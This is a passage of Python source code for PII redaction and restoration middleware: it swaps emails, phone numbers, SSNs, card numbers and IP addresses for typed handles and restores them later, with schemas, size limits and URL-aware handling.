    # thousands of times would otherwise be built in memory in full before any limit could look at it.
    size, allowance = len(text), output_allowance() if max_chars is None else max_chars
    # Where each handle starts in `text` (handle k is parts[2k + 1]), in C.
    sizes = map(operator.add, map(len, parts), itertools.cycle((0, 2)))  # a handle part lost its brackets
    starts = list(itertools.accumulate(sizes))[0:-1:2]
    # Every URL marker has a ":" or an "=", and a link destination a "](": text with none has no URL to look for.
    check_urls = not in_urls and (":" in text or "=" in text or "](" in text)
    get = redactions.get
    k, handles = 0, len(starts)
    while k < handles:
        if call.cancelled:
            call.stop()
        i = 2 * k + 1
        name, position = parts[i], starts[k]
        if check_urls and position < urls.url_until or (check_urls and get(name) is not None
                                                         and urls.in_url(position)):
            # Kept in a URL, with every handle after it up to where the URL is known to go on: in bulk.
            last = max(k + 1, bisect.bisect_left(starts, urls.url_until, k))
            names = parts[i:2 * last + 1:2]
            parts[i:2 * last + 1:2] = map("[{}]".format, names)
            for each in dict.fromkeys(names):
                known = get(each) is not None
                listed, found = (listed_kept, kept) if known else (listed_unknown, unknown)
                if found is not None and each not in listed:
                    listed.add(each)
                    found.append(each)
            k = last
            continue
        value = get(name)
        if value is None:
            if unknown is not None and name not in listed_unknown:
                listed_unknown.add(name)
                unknown.append(name)
            parts[i] = f"[{name}]"
        else:
            restored += 1
            size += len(value) - len(name) - 2
            if allowance is not None and size > allowance:
                raise LimitExceeded("maxOutputChars", allowance, None,
                                    f"pii_restoration: the restored text would hold more than this server's limit "
                                    f"of {allowance} characters (maxOutputChars)")
            parts[i] = value
        k += 1
    return "".join(parts), restored


# -- the middleware ------------------------------------------------------------------------------------
_MAP_SCHEMA = {"type": "object", "propertyNames": {"pattern": f"^{HANDLE_NAME}$"},
               "additionalProperties": {"type": "string"}}

REDACTION_SCHEMA = {
    "type": "object",
    "properties": {
        "aggressiveness": {
            "type": "string", "enum": ["standard", "strict"], "default": "standard",
            "description": "strict also redacts bare 9-digit runs that pass the SSA rules (SSN) and bare 10-15 "
                           "digit runs that are valid phone numbers"},
        "redactions": {
            **_MAP_SCHEMA,
            "description": "The metadata.redactions map a previous call returned (handle -> original value): "
                           "the same values keep their handles and numbering continues after it."},
        "defaultRegion": {
            "type": "string", "pattern": "^[A-Z]{2}$", "default": "US",
            "description": "ISO 3166-1 alpha-2 region for phone numbers written without a country code "
                           "(national format with a trunk 0, and strict-mode bare runs)"},
    },
    "additionalProperties": False,
}

RESTORATION_SCHEMA = {
    "type": "object",
    "properties": {
        "redactions": {**_MAP_SCHEMA, "description": "handle -> original value, as pii_redaction returned it"},
        "restoreInUrls": {
            "type": "boolean", "default": False,
            "description": "also restore handles inside URLs (markdown link and image destinations, autolinks, bare "
                           "URLs, href/src values); off by default so a value cannot leave through an address "
                           "the model wrote"},
    },
    "required": ["redactions"],
    "additionalProperties": False,
}


def pii_redaction(context: list[dict], arguments: dict) -> dict:
    check_context(context)
    aggressiveness = arguments.get("aggressiveness", "standard")
    if aggressiveness not in ("standard", "strict"):
        raise ValueError(f"aggressiveness must be 'standard' or 'strict', not {aggressiveness!r}")
    region = arguments.get("defaultRegion", "US")
    if region not in phonenumbers.SUPPORTED_REGIONS:
        raise ValueError(f"defaultRegion {region!r} is not a region phone numbers are known for")
    handles = HandleMap(arguments.get("redactions"))
    counts: dict[str, int] = {}
    content = []
    with budgeted(sum(len(block["text"]) for block in context if is_text(block))):  # one budget for the call
        for block in context:
            if is_text(block):
                block = {**block, "text": redact_text(block["text"], handles, aggressiveness == "strict", region,
                                                      counts)}
            content.append(block)
    return {"content": content, "metadata": {"redactions": dict(handles.values), "counts": counts}}


def pii_restoration(context: list[dict], arguments: dict) -> dict:
    check_context(context)
    if "redactions" not in arguments:
        raise ValueError("redactions (the handle -> value map pii_redaction returned) is required")
    redactions = validate_map(arguments["redactions"], "redactions")
    in_urls = arguments.get("restoreInUrls", False)
    if not isinstance(in_urls, bool):
        raise ValueError("restoreInUrls must be true or false")
    total, unknown, kept = 0, [], []
    content = []
    limit = allowance = output_allowance()  # for all blocks together
    for block in context:
        if is_text(block):
            try:
                text, n = restore_text(block["text"], redactions, unknown, in_urls, kept, allowance)
            except LimitExceeded:
                raise LimitExceeded("maxOutputChars", limit, None, "pii_restoration: the restored text would hold "
                                    f"more than this server's limit of {limit} characters (maxOutputChars)") from None
            block, total = {**block, "text": text}, total + n
            if allowance is not None:
                allowance -= len(text)
        content.append(block)
    metadata: dict = {"restored": total}
    if unknown:
        metadata["unknownHandles"] = unknown
    if kept:
        metadata["keptInUrls"] = kept
    return {"content": content, "metadata": metadata}


DEFINITION = MiddlewareSpec(
    "pii_redaction",
    "Replace emails, phone numbers, US SSNs, payment card numbers and IPv4 addresses in text blocks with typed "
    "handles like [EMAIL_1]; metadata.redactions maps handles to the original values (pass it back as "
    "`redactions` to keep handles stable across a session, and to pii_restoration to undo).",
    REDACTION_SCHEMA, pii_redaction)

RESTORATION = MiddlewareSpec(
    "pii_restoration",
    "Replace every [HANDLE] in text blocks with its original value from `redactions`, exactly; unknown handles "
    "are left as they are, and so are handles inside URLs (metadata.keptInUrls) unless restoreInUrls is true.",
    RESTORATION_SCHEMA, pii_restoration)
